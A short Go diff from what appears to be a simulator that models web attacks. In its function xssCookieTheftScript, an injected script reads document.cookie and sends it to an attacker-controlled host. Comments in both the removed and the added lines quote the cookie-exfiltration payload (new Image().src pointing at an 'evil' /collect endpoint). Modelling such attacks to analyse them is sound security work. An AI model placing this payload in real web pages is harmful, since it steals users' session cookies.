@@ -62,8 +62,10 @@ func xssCookieTheftScript(w *World) {
 	w.note(ActorVictim, "the script reads document.cookie", quoteOrEmpty(visible), check)
 	w.track("document.cookie", quoteOrEmpty(visible))
 
-	// The script writes new Image().src = "https://evil…/collect?c=" + document.cookie.
-	exfil := URL{Scheme: "https", Host: AttackerHost, Path: "/collect", Query: "c=" + queryEncode(visible)}
+	// The script writes new Image().src = origin + "/collect?c=" + document.cookie,
+	// on the page's scheme, so that nothing is mixed content.
+	exfil := w.attackerPage()
+	exfil.Path, exfil.Query = "/collect", "c="+queryEncode(visible)
 	w.victim.do(nav{method: "GET", url: exfil, initiator: doc.Origin(), action: "the script sends what it read to the attacker", actor: ActorVictim})
 	if stolen == "" && check == nil {
 		// No configuration explored reaches this, but a run must not panic.
